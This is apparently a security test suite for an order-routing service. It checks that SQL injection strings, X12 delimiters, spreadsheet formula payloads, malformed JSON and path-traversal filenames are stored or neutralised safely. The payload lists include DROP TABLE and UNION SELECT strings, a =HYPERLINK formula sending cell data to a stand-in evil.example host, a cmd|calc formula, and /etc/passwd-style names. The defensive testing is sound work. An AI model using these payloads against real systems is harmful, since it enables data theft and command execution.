/**
 * Security: hostile data in orders and supplier files. SQL injection in every text field of a
 * canonical order (stored verbatim, read back identical, never executed), X12 delimiters typed by a
 * customer (the 850 keeps its structure), spreadsheet formulas in both directions of CSV, and a
 * pushed file's X-Filename (a label, never a path).
 */
import { existsSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readX12 } from '../../src/formats/x12/read/index.ts';
import { base64Hmac } from '../../src/intake/signatures.ts';
import { routeReceivedOrders } from '../../src/pipeline/route.ts';
import { toBuffer } from '../../src/store/ids.ts';
import { ADMIN_TOKEN, createTestHub, jsonRequest, sampleOrder, type TestHub } from '../helpers/hub.ts';
import { writeMapping } from '../helpers/mappings.ts';
import { check850 } from '../helpers/x12-850-check.ts';

const PUSH_TOKEN = 'csv-supplier-push-token-000000001';

let t: TestHub;
let key: string;

const http = { type: 'http', url: 'http://127.0.0.1:9/po' } as const;

beforeAll(async () => {
  const x12 = await writeMapping({
    supplier: 'edi',
    name: 'EDI supplier',
    skus: { prefixes: ['EDI-'] },
    transport: http,
    outbound: {
      format: 'x12-850',
      filename: 'PO_{poNumber}.edi',
      x12: { version: '004010', senderQualifier: 'ZZ', senderId: 'DROPHUB', receiverQualifier: 'ZZ', receiverId: 'EDISUP' },
    },
  });
  const csv = await writeMapping({
    supplier: 'sheet',
    name: 'Spreadsheet supplier',
    skus: { prefixes: ['CSV-'] },
    transport: { ...http, inboundToken: PUSH_TOKEN },
    outbound: {
      format: 'csv',
      filename: '{poNumber}.csv',
      columns: {
        PO: '$po.poNumber',
        Item: 'sku',
        Description: 'title',
        Qty: 'quantity',
        'Ship To': '$po.shipTo.name',
        Address: '$po.shipTo.address1',
        City: '$po.shipTo.city',
        Notes: '$po.notes',
        '=Header': "'literal'",
      },
    },
    inbound: {
      files: [
        { match: 'tracking_*.csv', format: 'csv', columns: { poNumber: 'PO', sku: 'SKU', quantity: 'Qty', carrier: 'Carrier', trackingNumber: 'Tracking' } },
        { match: '*.json', format: 'json' },
      ],
    },
  });
  t = await createTestHub({ mappings: [x12, csv], clock: () => new Date('2026-11-27T10:00:00Z') });
  key = (await t.retailer({ id: 'shop' })).apiKey;
});
afterAll(async () => t?.close());

const auth = () => ({ authorization: `Bearer ${key}` });
const post = (body: unknown) => t.app.request('/v1/orders', jsonRequest(body, auth()));
const read = async (id: string) => (await t.app.request(`/v1/orders/${id}`, { headers: auth() })).json();

const SQL_PAYLOADS = [
  "'); DROP TABLE orders; --",
  "' OR '1'='1",
  '"; DROP TABLE retailers; --',
  "1; DELETE FROM documents WHERE '1'='1",
  "\\'; TRUNCATE order_events; --",
  "$1 $$; DROP TABLE purchase_orders; $$",
  "admin'--",
  "' UNION SELECT api_key_hash FROM retailers --",
  "%' OR 'x' LIKE '%",
  "');\nDROP TABLE orders;\n--",
];

/** Every free-text field of the canonical order, by path. */
const TEXT_FIELDS = [
  'externalId', 'orderNumber', 'payment.reference', 'customer.name', 'customer.phone',
  'shipTo.name', 'shipTo.company', 'shipTo.address1', 'shipTo.address2', 'shipTo.city', 'shipTo.region',
  'shipTo.postalCode', 'shipTo.phone', 'shipping.method', 'shipping.carrier', 'shipping.serviceLevel',
  'lines.0.lineId', 'lines.0.sku', 'lines.0.title', 'notes',
];

function setPath(target: Record<string, unknown>, dotted: string, value: unknown): void {
  const keys = dotted.split('.');
  let node: Record<string, unknown> = target;
  for (const k of keys.slice(0, -1)) node = node[k] as Record<string, unknown>;
  node[keys.at(-1)!] = value;
}

async function tablesIntact(): Promise<void> {
  for (const table of ['orders', 'retailers', 'documents', 'order_events', 'purchase_orders', 'webhook_receipts', 'inbound_ledger']) {
    const { rows } = await sql<{ n: string }>`select count(*) as n from ${sql.table(table)}`.execute(t.hub.store.db);
    expect(Number(rows[0]!.n), table).toBeGreaterThanOrEqual(0);
  }
  expect(await t.hub.store.db.selectFrom('retailers').select('id').execute()).toEqual([{ id: 'shop' }]);
}

describe('SQL injection in every text field of an order', () => {
  it('the canonical order covers every free-text field of the schema', async () => {
    const doc = await (await t.app.request('/openapi.json')).json();
    const schema = doc.components.schemas.CanonicalOrder;
    const found: string[] = [];
    const walk = (s: Record<string, any>, at: string): void => {
      const node = s.anyOf?.find((x: Record<string, any>) => x.type !== 'null') ?? s;
      if (node.type === 'object') for (const [k, v] of Object.entries(node.properties ?? {})) walk(v as Record<string, any>, at ? `${at}.${k}` : k);
      else if (node.type === 'array') walk(node.items, `${at}.0`);
      else if (node.type === 'string' && !node.enum && !node.pattern && !node.format && at !== 'shipTo.country') found.push(at);
    };
    walk(schema, '');
    expect(found.sort()).toEqual([...TEXT_FIELDS].sort());
  });

  it.each(TEXT_FIELDS.map((field, i) => [field, SQL_PAYLOADS[i % SQL_PAYLOADS.length]!] as const))(
    '%s = %j is stored verbatim and read back identical',
    async (field, payload) => {
      const order = sampleOrder({ externalId: `sqli-${field}`, orderNumber: `#sqli-${TEXT_FIELDS.indexOf(field)}` });
      setPath(order, field, payload);
      const res = await post(order);
      expect(res.status).toBe(201);
      const created = await res.json();
      expect(created.order).toEqual(order);
      expect((await read(created.id)).order).toEqual(order);
      await tablesIntact();
    },
  );

  it('every field at once, then searched for by the injected text', async () => {
    const payload = SQL_PAYLOADS[0]!;
    const order = sampleOrder({ orderNumber: '#sqli-all' });
    for (const field of TEXT_FIELDS) setPath(order, field, payload);
    order.externalId = `${payload} (all)`;
    const res = await post(order);
    expect(res.status).toBe(201);
    const created = await res.json();
    expect((await read(created.id)).order).toEqual(order);

    // The same text in query strings: matched literally, never as SQL.
    const byExternal = await (await t.app.request(`/v1/orders?externalId=${encodeURIComponent(`${payload} (all)`)}`, { headers: auth() })).json();
    expect(byExternal.orders.map((o: { id: string }) => o.id)).toEqual([created.id]);
    const tautology = await (await t.app.request(`/v1/orders?externalId=${encodeURIComponent("' OR '1'='1' --")}`, { headers: auth() })).json();
    expect(tautology.orders).toEqual([]);
    const admin = { authorization: `Bearer ${ADMIN_TOKEN}` };
    for (const q of ["supplier=' OR 1=1 --", "status=x'; DROP TABLE documents; --", "order=' OR ''='"]) {
      const res = await t.app.request(`/v1/admin/documents?${q.split('=')[0]}=${encodeURIComponent(q.slice(q.indexOf('=') + 1))}`, { headers: admin });
      expect(res.status, q).toBe(200);
      expect((await res.json()).documents).toEqual([]);
    }
    const search = await t.app.request(`/search?q=${encodeURIComponent(payload)}`, { headers: admin });
    expect(search.status).toBe(200);

    // Routing and rendering carry the text through without executing it either.
    await routeReceivedOrders(t.hub);
    await tablesIntact();
  });

  it('a NUL character in a text field is refused or kept, never a server error', async () => {
    const order = sampleOrder({ externalId: 'nul-1', orderNumber: '#nul-1', notes: 'before\u0000after' });
    const res = await post(order);
    expect(res.status, await res.clone().text()).toBeLessThan(500);
    if (res.status === 201) expect((await read((await res.json()).id)).order.notes).toBe('before\u0000after');
  });
});

describe('a lone UTF-16 surrogate ("\\ud800") in any JSON body', () => {
  const LONE = ['\ud800', '\udfff', 'a\udc00b', 'x\ud83d'];
  const issuePaths = async (res: Response) => ((await res.json()).error.details.issues as { path: string }[]).map((i) => i.path);

  it.each(['notes', 'customer.name', 'lines.0.title', 'shipTo.city'])('an order with one in %s is a 400 naming the field; nothing stored', async (field) => {
    for (const [i, text] of LONE.entries()) {
      const order = sampleOrder({ externalId: `surrogate-${field}-${i}`, orderNumber: '#surrogate' });
      setPath(order, field, text);
      const res = await post(order);
      expect(res.status, await res.clone().text()).toBe(400);
      expect(await issuePaths(res)).toEqual([field]);
      const stored = await t.hub.store.db.selectFrom('orders').select('id').where('external_id', '=', `surrogate-${field}-${i}`).execute();
      expect(stored).toEqual([]);
    }
  });

  it('one in a key, or deep in a nested value, is a 400 too; a valid pair (an emoji) is kept', async () => {
    const res = await post({ ...sampleOrder({ externalId: 'surrogate-key' }), ['k\ud800']: 1 });
    expect(res.status).toBe(400);
    // Deeper than a recursive walk could go (JSON.parse itself accepts it).
    const deep = `${'['.repeat(20_000)}"\\ud800"${']'.repeat(20_000)}`;
    const order = JSON.stringify(sampleOrder({ externalId: 'surrogate-deep' }));
    expect((await post(`${order.slice(0, -1)},"extra":${deep}}`)).status).toBe(400);
    const ok = await post(sampleOrder({ externalId: 'surrogate-pair', orderNumber: '#pair', notes: 'gift \ud83c\udf81' }));
    expect(ok.status).toBe(201);
    expect((await read((await ok.json()).id)).order.notes).toBe('gift \ud83c\udf81');
  });

  it('in a validly signed Shopify or WooCommerce webhook: 400 naming the field, nothing stored', async () => {
    const shop = await t.retailer({ id: 'surrogate-shop', shopifySecret: 'shopify-surrogate-secret', woocommerceSecret: 'woo-surrogate-secret' });
    const shopifyBody = JSON.parse(readFileSync(new URL('../fixtures/shopify/order-create.json', import.meta.url), 'utf8'));
    const sBody = JSON.stringify({ ...shopifyBody, id: 7_300_001, admin_graphql_api_id: 'gid://shopify/Order/7300001', note: 'gift\ud800' });
    const s = await t.app.request(`/v1/webhooks/shopify/${shop.id}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-shopify-topic': 'orders/create', 'x-shopify-hmac-sha256': base64Hmac(sBody, 'shopify-surrogate-secret') },
      body: sBody,
    });
    expect(s.status, await s.clone().text()).toBe(400);
    expect(await issuePaths(s)).toEqual(['note']);
    const wooBody = JSON.parse(readFileSync(new URL('../fixtures/woocommerce/order-created.json', import.meta.url), 'utf8'));
    const wBody = JSON.stringify({ ...wooBody, id: 7_300_002, shipping: { ...wooBody.shipping, city: '\udc00' } });
    const w = await t.app.request(`/v1/webhooks/woocommerce/${shop.id}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-wc-webhook-topic': 'order.created', 'x-wc-webhook-signature': base64Hmac(wBody, 'woo-surrogate-secret') },
      body: wBody,
    });
    expect(w.status, await w.clone().text()).toBe(400);
    expect(await issuePaths(w)).toEqual(['shipping.city']);
    expect(await t.hub.store.db.selectFrom('orders').select('id').where('retailer_id', '=', shop.id).execute()).toEqual([]);
  });

  it('a validly signed JSON null (or list, or number) webhook body is a 400, not a 500', async () => {
    const shop = await t.retailer({ id: 'null-shop', shopifySecret: 'shopify-null-secret', woocommerceSecret: 'woo-null-secret' });
    for (const body of ['null', '[]', '7', '"x"']) {
      for (const topic of ['orders/create', 'orders/paid', 'orders/cancelled']) {
        const res = await t.app.request(`/v1/webhooks/shopify/${shop.id}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-shopify-topic': topic, 'x-shopify-hmac-sha256': base64Hmac(body, 'shopify-null-secret') },
          body,
        });
        expect(res.status, `${topic} ${body}: ${await res.clone().text()}`).toBe(400);
      }
      for (const topic of ['order.created', 'order.updated', 'order.deleted']) {
        const res = await t.app.request(`/v1/webhooks/woocommerce/${shop.id}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-wc-webhook-topic': topic, 'x-wc-webhook-signature': base64Hmac(body, 'woo-null-secret') },
          body,
        });
        expect(res.status, `${topic} ${body}: ${await res.clone().text()}`).toBe(400);
      }
    }
  });

  it('in a pushed supplier JSON file: refused naming the field, never a server error', async () => {
    const res = await t.app.request('/v1/suppliers/sheet/documents', {
      method: 'POST',
      headers: { authorization: `Bearer ${PUSH_TOKEN}`, 'content-type': 'application/json', 'x-filename': 'ship-surrogate.json' },
      body: JSON.stringify({ type: 'shipment', poNumber: 'SUR-1', carrier: 'UPS\ud800', trackingNumbers: ['1Z'] }),
    });
    const text = await res.text();
    expect(res.status, text).toBeLessThan(500);
    expect(text).toMatch(/carrier/);
  });
});

describe('hostile JSON shapes in an order body', () => {
  it.each([
    ['an object with a length that cannot be printed', { length: { toString: 1 } }],
    ['an object with a numeric length', { length: 1e9 }],
    ['an array', ['a']],
    ['a __proto__ object', JSON.parse('{"__proto__": {"polluted": 1}}')],
  ])('a text field holding %s is a 400 naming the field, never a 500', async (_name, value) => {
    for (const field of ['orderNumber', 'customer.name', 'lines.0.title', 'notes']) {
      const order = sampleOrder({ externalId: `shape-${field}`, orderNumber: '#shape' });
      setPath(order, field, value);
      const res = await post(order);
      expect(res.status, `${field}: ${await res.clone().text()}`).toBe(400);
      const body = await res.json();
      expect(body.error.details.issues.map((i: { path: string }) => i.path)).toContain(field);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('X12 delimiters typed into order data', () => {
  const line = { lineId: '1', sku: 'EDI-TRUCK-01', title: 'Wooden toy truck', quantity: 2, unitPrice: '19.99' };
  const clean = sampleOrder({
    externalId: 'x12-clean',
    orderNumber: '#9 ISA 01',
    customer: { name: 'SMITH JONES ISA', email: 'ada@example.com', phone: '+1 555 0100' },
    shipTo: {
      name: 'SMITH JONES ISA', company: 'ACME GS PO', address1: '12 Main St SE 2 0001', address2: 'Apt 4 5 6', city: 'Spring field',
      region: 'IL', postalCode: '627 01', country: 'US', phone: '+1 555 0100',
    },
    shipping: { method: 'Std IEA 1', carrier: null, serviceLevel: 'GROUND' },
    lines: [{ ...line, title: 'Truck with delims ST 850 0002' }],
    notes: 'Gift wrap MSG hello',
  });
  const hostile = sampleOrder({
    externalId: 'x12-hostile',
    orderNumber: '#9~ISA*00',
    customer: { name: 'SMITH*JONES~ISA', email: 'ada@example.com', phone: '+1*555~0100' },
    shipTo: {
      name: 'SMITH*JONES~ISA', company: 'ACME>^|~GS*PO', address1: '12 Main St~SE*2*0001~', address2: 'Apt 4^5>6', city: 'Spring~field',
      region: 'IL', postalCode: '627*01', country: 'US', phone: '+1 555 0100~',
    },
    shipping: { method: 'Std~IEA*1', carrier: null, serviceLevel: 'GROUND*' },
    lines: [{ ...line, title: 'Truck *with~ ^delims> \n~ST*850*0002~' }],
    notes: 'Gift wrap~MSG*hello',
  });

  const warningsOf = new Map<string, { field: string }[]>();
  async function render(order: Record<string, unknown>): Promise<string> {
    const res = await post(order);
    expect(res.status).toBe(201);
    const { id } = await res.json();
    await routeReceivedOrders(t.hub);
    const doc = await t.hub.store.db.selectFrom('documents').selectAll().where('order_id', '=', id).where('kind', '=', 'po').executeTakeFirstOrThrow();
    const parsed = (typeof doc.parsed === 'string' ? JSON.parse(doc.parsed) : doc.parsed) as { warnings?: { field: string }[] };
    warningsOf.set(String(order.externalId), parsed.warnings ?? []);
    return toBuffer(doc.content).toString('utf8');
  }

  it('the 850 for SMITH*JONES~ISA parses with the same segment count as a clean order', async () => {
    const good = await render(clean);
    const bad = await render(hostile);
    const goodFile = readX12(good);
    const badFile = readX12(bad);
    expect(badFile.sets).toHaveLength(1);
    expect(badFile.sets[0]!.segments.length).toBe(goodFile.sets[0]!.segments.length);
    expect(badFile.sets[0]!.segments.map((s) => s[0])).toEqual(goodFile.sets[0]!.segments.map((s) => s[0]));
    expect(check850(bad)).toEqual([]);
    // The names are there, with the delimiters blanked out, and the document says which fields changed.
    expect(bad).toMatch(/N1\*ST\*SMITH JONES ISA/);
    expect(warningsOf.get('x12-clean')).toEqual([]);
    expect(warningsOf.get('x12-hostile')!.map((w) => w.field)).toEqual(expect.arrayContaining(['shipTo.name', 'shipTo.address1', 'shipTo.city', 'lines[0].title', 'notes']));
    expect(bad.split('\n').filter((l) => l.startsWith('ISA'))).toHaveLength(1);
  });
});

describe('spreadsheet formulas in CSV', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

  it('outbound: cells beginning with = + - @ tab or CR are neutralised with a leading quote', async () => {
    const order = sampleOrder({
      externalId: 'csv-formula',
      orderNumber: '#csv-formula',
      shipTo: { ...(sampleOrder().shipTo as object), name: FORMULAS[0], address1: FORMULAS[1], city: FORMULAS[2] },
      lines: [
        { lineId: '1', sku: 'CSV-1', title: FORMULAS[3], quantity: 1, unitPrice: '1.00' },
        { lineId: '2', sku: 'CSV-2', title: FORMULAS[4], quantity: 1, unitPrice: '1.00' },
      ],
      notes: FORMULAS[5],
    });
    const res = await post(order);
    expect(res.status).toBe(201);
    const { id } = await res.json();
    await routeReceivedOrders(t.hub);
    const doc = await t.hub.store.db.selectFrom('documents').selectAll().where('order_id', '=', id).where('kind', '=', 'po').executeTakeFirstOrThrow();
    const rows = parseCsv(toBuffer(doc.content)) as string[][];
    const [header, ...data] = rows;
    expect(header).toContain("'=Header");
    const cells = data.flat();
    // Every line of a cell is guarded: '\r=1+1' is a CR and then a formula line.
    for (const f of FORMULAS) expect(cells, f).toContain(`'${f.replace(/([\r\n])(?=[=+\-@\t])/g, "$1'")}`);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('outbound: a bare CR or LF in a cell neither starts a new row nor lets a formula through', async () => {
    const notes = ["gift\r=cmd|' /C calc'!A0", 'gift\n+1+1', 'gift\r\n@SUM(A1)', 'gift\r\r-2+3', 'gift\n\t=1'];
    for (const [i, note] of notes.entries()) {
      const order = sampleOrder({
        externalId: `csv-cr-${i}`,
        orderNumber: `#csv-cr-${i}`,
        lines: [{ lineId: '1', sku: 'CSV-CR', title: 'Thing', quantity: 1, unitPrice: '1.00' }],
        notes: note,
      });
      const res = await post(order);
      expect(res.status).toBe(201);
      const { id } = await res.json();
      await routeReceivedOrders(t.hub);
      const doc = await t.hub.store.db.selectFrom('documents').selectAll().where('order_id', '=', id).where('kind', '=', 'po').executeTakeFirstOrThrow();
      const text = toBuffer(doc.content).toString('utf8');
      // A reader that breaks rows on CR, LF or CRLF: no line it sees may begin with a formula.
      for (const line of text.split(/\r\n|\r|\n/)) expect(line, JSON.stringify(line)).not.toMatch(/^[=+\-@\t]/);
      // The cell is quoted, so a CSV reader keeps it one cell of one row.
      const rows = parseCsv(toBuffer(doc.content)) as string[][];
      expect(rows).toHaveLength(2);
      const cell = rows[1]![rows[0]!.indexOf('Notes')]!;
      expect(cell).toBe(note.replace(/([\r\n])(?=[=+\-@\t])/g, "$1'"));
      expect(text).toContain(`"${cell}"`);
    }
  });

  it('inbound: a tracking CSV with =HYPERLINK(...) is stored as text, never evaluated', async () => {
    const order = sampleOrder({ externalId: 'csv-inbound', orderNumber: '#csv-inbound', lines: [{ lineId: '1', sku: 'CSV-9', title: 'Thing', quantity: 1, unitPrice: '1.00' }] });
    const { id } = await (await post(order)).json();
    await routeReceivedOrders(t.hub);
    const po = (await read(id)).purchaseOrders[0];
    const tracking = '=HYPERLINK("http://evil.example/steal?d="&A1,"1Z999")';
    const carrier = "=cmd|' /C calc'!A0";
    const csv = `PO,SKU,Qty,Carrier,Tracking\n${po.poNumber},CSV-9,1,"${carrier.replace(/"/g, '""')}","${tracking.replace(/"/g, '""')}"\n`;
    const res = await t.app.request('/v1/suppliers/sheet/documents', {
      method: 'POST',
      headers: { authorization: `Bearer ${PUSH_TOKEN}`, 'content-type': 'text/csv', 'x-filename': 'tracking_1.csv' },
      body: csv,
    });
    expect(res.status, await res.clone().text()).toBe(200);
    const view = await read(id);
    const shipment = view.shipments[0];
    expect(shipment.trackingNumbers).toEqual([tracking]);
    expect(JSON.stringify(view)).toContain(carrier);
  });
});

describe("a pushed file's X-Filename is a label, not a path", () => {
  const names = [
    '../../../../tmp/hub-escape-test.json',
    '/etc/passwd.json',
    '..\\..\\windows\\win.ini.json',
    `${'a'.repeat(5000)}.json`,
    'tracking_1.csv/../../../x.json',
  ];

  it.each(names.map((n) => [n.length > 60 ? `${n.slice(0, 20)}…(${n.length} chars)` : n, n]))('%s', async (_label, name) => {
    const escape = path.join(tmpdir(), 'hub-escape-test.json');
    const body = JSON.stringify({ type: 'shipment', poNumber: `NOPE-${name.length}`, trackingNumbers: ['1Z'] });
    const res = await t.app.request('/v1/suppliers/sheet/documents', {
      method: 'POST',
      headers: { authorization: `Bearer ${PUSH_TOKEN}`, 'content-type': 'application/json', 'x-filename': name },
      body,
    });
    expect([200, 422]).toContain(res.status);
    const { documentId } = await res.json();
    const doc = await t.hub.store.db.selectFrom('documents').select(['filename']).where('id', '=', documentId).executeTakeFirstOrThrow();
    expect(doc.filename.length).toBeLessThanOrEqual(255);
    expect(name.startsWith(doc.filename.slice(0, 200))).toBe(true);
    expect(existsSync(escape)).toBe(false);
    expect(existsSync('/etc/passwd.json')).toBe(false);
    // Served back to an operator, the name cannot break out of the Content-Disposition header.
    const raw = await t.app.request(`/v1/admin/documents/${documentId}/raw`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
    expect(raw.headers.get('content-disposition')).toMatch(/^inline; filename="[\w.-]+"$/);
    expect(raw.headers.get('content-type')).toMatch(/^text\/plain/);
    expect(raw.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('one retailer cannot stop the routing of another', () => {
  it('an order reusing another retailer\'s order number (every Shopify store starts at #1001) does not block routing', async () => {
    const other = await t.retailer({ id: 'other-shop' });
    const line = { lineId: '1', sku: 'EDI-TRUCK-01', title: 'Truck', quantity: 1, unitPrice: '1.00' };
    const mine = await (await post(sampleOrder({ externalId: 'po-clash-a', orderNumber: '#PO-CLASH', lines: [line] }))).json();
    await routeReceivedOrders(t.hub);
    expect((await read(mine.id)).status).toBe('routed');

    const theirs = await t.app.request('/v1/orders', jsonRequest(sampleOrder({ externalId: 'po-clash-b', orderNumber: '#PO-CLASH', lines: [line] }), { authorization: `Bearer ${other.apiKey}` }));
    expect(theirs.status).toBe(201);
    const later = await (await post(sampleOrder({ externalId: 'po-clash-c', orderNumber: '#PO-AFTER', lines: [line] }))).json();
    // The pass must not throw, and the order placed after the clash must still be routed.
    await routeReceivedOrders(t.hub);
    expect((await read(later.id)).status).toBe('routed');
    const clash = await t.hub.store.db.selectFrom('orders').select('status').where('external_id', '=', 'po-clash-b').executeTakeFirstOrThrow();
    expect(['routed', 'exception']).toContain(clash.status);
  });
});
